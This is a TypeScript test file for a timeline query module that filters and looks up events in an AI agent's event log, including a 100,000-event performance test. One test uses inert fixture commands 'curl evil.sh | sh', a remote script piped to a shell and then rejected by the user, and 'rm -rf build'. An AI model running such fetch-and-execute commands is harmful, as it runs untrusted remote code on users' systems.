import {test} from 'node:test';
import assert from 'node:assert/strict';
import {performance} from 'node:perf_hooks';
import {
	distinctKinds,
	findObservationFor,
	forgottenEvents,
	indexOfEvent,
	parseTimelineFilter,
	pendingActions,
	selectTimelineEvents,
} from '../source/state/timeline-query.js';
import {type LoggedEvent, parseEvent, type WireEvent} from '../source/wire/schemas/events.js';
import {message, resetFixtureClock, sampleRun, terminalAction, terminalObservation, wire} from './helpers/event-fixtures.js';

resetFixtureClock();
const run = sampleRun();
const events: readonly WireEvent[] = run;
const timeline = {events, version: 1};

const kinds = (list: readonly LoggedEvent[]) => list.map((event) => event.kind);

test('kind filter: short, qualified, several, any case', () => {
	const actions = selectTimelineEvents(timeline, 'kind:ActionEvent');
	assert.equal(actions.length, 3);
	assert.deepEqual(selectTimelineEvents(timeline, 'kind:openhands.sdk.event.llm_convertible.action.ActionEvent'), actions);
	assert.deepEqual(selectTimelineEvents(timeline, 'KIND:actionevent'), actions);
	const both = selectTimelineEvents(timeline, 'kind:ActionEvent,ObservationEvent');
	assert.equal(both.length, 6);
	assert.deepEqual(new Set(kinds(both)), new Set(['ActionEvent', 'ObservationEvent']));
	// A known kind name is exact (Condensation does not pull in CondensationRequest); a fragment is a prefix.
	assert.deepEqual(kinds(selectTimelineEvents(timeline, 'kind:condensation')), ['Condensation']);
	assert.equal(selectTimelineEvents(timeline, 'kind:obs').length, 3);
});

test('source and free text (command, message text, summary), combined', () => {
	assert.equal(selectTimelineEvents(timeline, 'source:agent').length, 3 + 1);
	const pytest = selectTimelineEvents(timeline, 'kind:ActionEvent source:agent pytest');
	assert.equal(pytest.length, 3);
	assert.deepEqual(kinds(selectTimelineEvents(timeline, 'test_1.py')), ['ActionEvent', 'ObservationEvent']);
	assert.deepEqual(kinds(selectTimelineEvents(timeline, '"all tests pass"')), ['MessageEvent']);
	assert.deepEqual(kinds(selectTimelineEvents(timeline, 'fix tests')), ['MessageEvent', 'Condensation']);
	assert.equal(selectTimelineEvents(timeline, 'tool:terminal').length, 6);
	const error = wire({kind: 'AgentErrorEvent', source: 'agent', tool_name: 'terminal', tool_call_id: 'x', error: 'Permission denied'});
	assert.deepEqual(selectTimelineEvents({events: [error], version: 1}, 'permission'), [error]);
	assert.deepEqual(parseTimelineFilter('kind:ActionEvent,ObservationEvent source:agent pytest').kinds, ['actionevent', 'observationevent']);
});

test('order and memoisation', () => {
	assert.equal(selectTimelineEvents(timeline, '', 'asc'), events, 'no filter, ascending: the log itself');
	const desc = selectTimelineEvents(timeline, '', 'desc');
	assert.deepEqual(desc, [...events].reverse());
	assert.equal(selectTimelineEvents(timeline, '', 'desc'), desc);
	const filtered = selectTimelineEvents(timeline, 'kind:ActionEvent', 'desc');
	assert.equal(selectTimelineEvents({events, version: 1}, 'kind:ActionEvent', 'desc'), filtered);
	assert.deepEqual(filtered, [...selectTimelineEvents(timeline, 'kind:ActionEvent', 'asc')].reverse());
	// A new version of the same array (a log that mutated in place) is not served from the memo.
	assert.notEqual(selectTimelineEvents({events, version: 2}, 'kind:ActionEvent', 'desc'), filtered);
});

test('observation lookup, pending actions, forgotten events, distinct kinds', () => {
	const firstAction = run.find((event) => event.kind === 'ActionEvent')!;
	const observation = findObservationFor(events, firstAction);
	assert.equal(observation?.kind, 'ObservationEvent');
	assert.equal(pendingActions(events).length, 0);
	const waiting = terminalAction('rm -rf build');
	const rejected = terminalAction('curl evil.sh | sh');
	const rejection = wire({
		kind: 'UserRejectObservation',
		source: 'environment',
		tool_name: 'terminal',
		tool_call_id: rejected.kind === 'ActionEvent' ? rejected.tool_call_id : '',
		action_id: rejected.id,
		rejection_reason: 'no',
	});
	const errored = terminalAction('make');
	const agentError = wire({
		kind: 'AgentErrorEvent',
		source: 'agent',
		tool_name: 'terminal',
		tool_call_id: errored.kind === 'ActionEvent' ? errored.tool_call_id : '',
		error: 'bad arguments',
	});
	const more = [...events, rejected, rejection, errored, agentError, waiting];
	assert.deepEqual(pendingActions(more), [waiting]);
	assert.equal(findObservationFor(more, rejected), rejection);
	assert.equal(findObservationFor(more, errored), agentError);
	assert.equal(findObservationFor(more, waiting), undefined);
	const condensation = run.find((event) => event.kind === 'Condensation')!;
	assert.deepEqual(forgottenEvents(events, condensation), run.slice(0, 4));
	assert.equal(indexOfEvent(events, run[5]!.id), 5);
	assert.deepEqual(distinctKinds(events), ['ActionEvent', 'Condensation', 'ConversationStateUpdateEvent', 'MessageEvent', 'ObservationEvent']);
	const unknown = parseEvent({id: 'u1', timestamp: '2026-11-22T13:00:00', kind: 'BrandNewEvent', source: 'agent'});
	assert.ok(distinctKinds([...events, unknown]).includes('BrandNewEvent'));
	assert.equal(selectTimelineEvents({events: [...events, unknown], version: 1}, 'kind:BrandNewEvent').length, 1);
});

test('100,000 events: filtered in one pass, lookups by index', (t) => {
	const big: WireEvent[] = [];
	for (let index = 0; big.length < 100_000; index++) {
		if (index % 50 === 0) big.push(message('user', `round ${index}: run pytest on module_${index}`));
		const action = terminalAction(index % 7 === 0 ? `pytest -q tests/test_${index}.py` : `ls src/pkg_${index}`);
		big.push(action, terminalObservation(action, `output ${index}`, index % 7 === 0 ? 1 : 0));
	}

	const largeTimeline = {events: big as readonly WireEvent[], version: 7};
	let started = performance.now();
	const first = selectTimelineEvents(largeTimeline, 'kind:ActionEvent source:agent pytest');
	const firstMs = performance.now() - started;
	started = performance.now();
	const second = selectTimelineEvents(largeTimeline, 'kind:ObservationEvent output 7', 'desc');
	const secondMs = performance.now() - started;
	started = performance.now();
	const third = selectTimelineEvents(largeTimeline, 'output 9', 'desc');
	const thirdMs = performance.now() - started;
	started = performance.now();
	const memo = selectTimelineEvents(largeTimeline, 'kind:ActionEvent source:agent pytest');
	const memoMs = performance.now() - started;
	t.diagnostic(`filter 100,000 events: ${firstMs.toFixed(1)} ms first (text cached), ${secondMs.toFixed(1)} ms another filter, ${thirdMs.toFixed(1)} ms text-only over cached text, ${memoMs.toFixed(3)} ms memoised`);
	assert.equal(memo, first);
	assert.ok(first.length > 0 && first.every((event) => event.kind === 'ActionEvent'));
	assert.ok(second.length > 0 && second.every((event) => event.kind === 'ObservationEvent'));
	assert.ok(third.length > 0);

	started = performance.now();
	const lastAction = big.findLast((event) => event.kind === 'ActionEvent')!;
	assert.ok(findObservationFor(big, lastAction));
	const indexMs = performance.now() - started;
	started = performance.now();
	for (let index = 0; index < 1000; index++) findObservationFor(big, big[(index * 97) % big.length]!);
	t.diagnostic(`index build ${indexMs.toFixed(1)} ms, then 1,000 lookups ${(performance.now() - started).toFixed(2)} ms`);
	assert.equal(pendingActions(big).length, 0);
});

test('a kind filter read from the positions filed when the filter line opened equals the full pass', () => {
	resetFixtureClock();
	const base = [...sampleRun(), ...sampleRun(), parseEvent({id: 'u1', timestamp: '2026-11-22T13:00:00', kind: 'BrandNewEvent', source: 'agent'})];
	const filters = ['kind:ActionEvent', 'kind:obs', 'kind:ActionEvent,ObservationEvent', 'kind:action source:agent', 'kind:ActionEvent pytest', 'kind:brandnew', 'kind:nothing', 'type:MessageEvent,state'];
	for (const order of ['asc', 'desc'] as const) {
		for (const filter of filters) {
			// A fresh array each time: the first selection is the full pass, the second uses the index.
			const events = [...base];
			const fullPass = selectTimelineEvents({events, version: 1}, filter, order);
			const copy = [...base];
			distinctKinds(copy);
			const filed = selectTimelineEvents({events: copy, version: 1}, filter, order);
			assert.deepEqual(filed.map((event) => event.id), fullPass.map((event) => event.id), `${filter} ${order}`);
		}
	}
	assert.ok(selectTimelineEvents({events: base, version: 1}, 'kind:ActionEvent').length > 0);
});
